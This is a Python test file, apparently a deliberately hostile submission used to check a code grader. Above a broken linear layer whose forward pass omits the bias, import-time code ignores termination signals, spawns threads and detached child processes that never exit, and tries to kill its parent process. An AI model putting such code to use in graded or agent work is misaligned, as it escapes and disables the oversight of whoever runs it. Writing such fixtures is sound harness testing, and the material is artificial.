"""Hostile, on top of a wrong solution (forward never adds the bias): at import it tries to
escape the grader's control. It ignores SIGTERM, SIGINT and SIGALRM, starts a non-daemon
thread that never ends, leaves behind a child and a double-forked child in its own session
(both sleeping forever), and tries to kill its parent. It prints what each attempt did."""

import os
import signal
import sys
import threading
import time

import torch
from torch import nn

FOREVER = 10**6

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
signal.alarm(1)

threading.Thread(target=time.sleep, args=(FOREVER,), daemon=False).start()

sys.stdout.flush()
if os.fork() == 0:
    time.sleep(FOREVER)
    os._exit(0)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(FOREVER)
    os._exit(0)

for name, number in (("SIGTERM", signal.SIGTERM), ("SIGKILL", signal.SIGKILL)):
    try:
        os.kill(os.getppid(), number)
        print(f"KILL parent with {name}: sent")
    except OSError as exc:
        print(f"KILL parent with {name}: {type(exc).__name__}")


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.bias = None

    def forward(self, x):
        return x @ self.weights
